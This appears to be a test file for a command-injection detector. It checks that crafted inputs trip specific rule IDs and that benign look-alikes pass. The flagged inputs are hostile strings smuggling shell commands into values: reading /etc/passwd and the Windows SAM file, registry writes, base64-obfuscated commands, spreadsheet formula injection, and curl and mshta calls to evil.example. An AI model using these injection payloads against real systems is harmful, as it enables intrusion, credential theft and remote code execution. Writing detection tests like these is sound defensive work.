// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells have them
/** Commands that are put together or put behind a value as only shells read it, and what people write that looks so. */
import { matchedIds, send, sites } from './test-support/send.ts';

describe('commands at medium', () => {
  it.each([
    [4012, "report.pdf; c''at /etc/hosts"],
    [4012, '& netsta\\t -an'],
    [4012, '&& \\\ndir'],
    [4012, 'a|/./usr/./bin/./id'],
    [4012, 'a b;p$()ing -i 30 127.0.0.1'],
    [4013, 'a b;curl https://evil.example/x'],
    [4013, '10.0.0.7&& pwd'],
    [4013, 'eve && reg add "HKLM\\System\\CurrentControlSet\\x" /v a'],
    [4013, 'a b& type %SYSTEMROOT%\\repair\\SAM'],
    [4013, 'a b`whoami`'],
    [4013, '1&$(id| base64);'],
    [4013, 'a b;`id`'],
    [4013, "Version 8.0'; id > /tmp/out; #"],
    [4013, '1|id'],
    [4013, '10.0.0.7 && ls'],
    [4013, 'x;id|base64'],
    [4002, 'x;$(echo aWQ=|base64 -d)'],
    [4004, 'od -c /etc/passwd'],
    [4007, 'a & mshta http://evil.example/a.hta'],
    [4003, "=cmd|'/c calc'!A1"],
    [4003, "@SUM(1+1)*cmd|' /C calc'!A0"],
    [4001, '| id |\n|'],
    [4001, '| id # |\n|---|'],
    [4001, '| id; a |\n|---|'],
  ])('%i stops %j', (id, text) => {
    const audit = send(sites.medium, text);
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).not.toBeNull();
  });

  it.each([
    'mir & dir',
    'chown $(id -u):$(id -g) data',
    'cd web && $(npm bin)/eslint .',
    'sort by name|id',
    "filter(name='a'); identity",
    '2; pwds of the team',
    "Rock'n'roll; I can't find it & you?",
    'Run it:\n\n```bash\n$ npm install left\n```\n',
    'curl https://api.example.org/v1 returns 502 since noon',
    'echo hello > file.txt then cat file.txt shows nothing, why?',
    'It works; curl https://a.example fails, though',
    '/etc/hosts on a mac is where names go',
    'Tea, cake & id card; bring both',
    '| id | name |\n|----|------|\n| 1 | Tea or cake |',
    '|sort|date|\r\n|:--|--:|\r\n|1|2|',
    '=SUM(A1:A3)|note',
    "-a | b's and c's",
  ])('pass: %j', (text) => {
    expect(matchedIds(send(sites.medium, text))).toEqual([]);
  });
});
